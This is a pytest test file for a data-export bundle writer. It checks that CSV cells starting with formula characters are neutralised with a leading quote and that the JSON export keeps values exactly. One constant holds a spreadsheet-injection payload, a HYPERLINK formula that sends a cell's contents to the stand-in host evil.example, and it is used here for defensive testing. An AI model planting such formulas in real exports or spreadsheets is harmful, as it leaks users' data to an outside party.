"""Attack: a record holding a spreadsheet formula. In the CSV it opens as text; data.json
keeps the value exactly."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest

from exports.data.bundle import Part, neutralise, write_bundle

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


def bundle(records: list[dict]) -> zipfile.ZipFile:
    lines = b"".join(json.dumps(r).encode() + b"\n" for r in records)
    parts = [Part("CRM", "Contact", lambda: io.BytesIO(lines), len(records))]
    out = io.BytesIO()
    meta = {
        "controller": "Acme",
        "case_reference": "DSAR-2026-000001",
        "generated_at": "2026-01-01T00:00:00+00:00",
        "purpose": "access",
    }
    write_bundle(out, meta=meta, parts=parts)
    return zipfile.ZipFile(out)


def test_the_exported_csv_cell_starts_with_a_quote_and_data_json_is_exact():
    archive = bundle([{"name": HOSTILE, "note": "plain", "@cmd": "+1 555", "n": -3}])
    rows = list(csv.reader(io.StringIO(archive.read("csv/contact.csv").decode())))
    assert rows[0] == ["source", "name", "note", "'@cmd", "n"]
    assert rows[1] == ["CRM", "'" + HOSTILE, "plain", "'+1 555", "'-3"]
    data = json.loads(archive.read("data.json"))
    record = data["sources"][0]["categories"][0]["records"][0]
    assert record["name"] == HOSTILE
    assert record["n"] == -3


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    assert neutralise(start + "SUM(A1)") == "'" + start + "SUM(A1)"


def test_ordinary_text_is_left_alone():
    assert neutralise("Ada Lovelace") == "Ada Lovelace"
    assert neutralise("a=b") == "a=b"
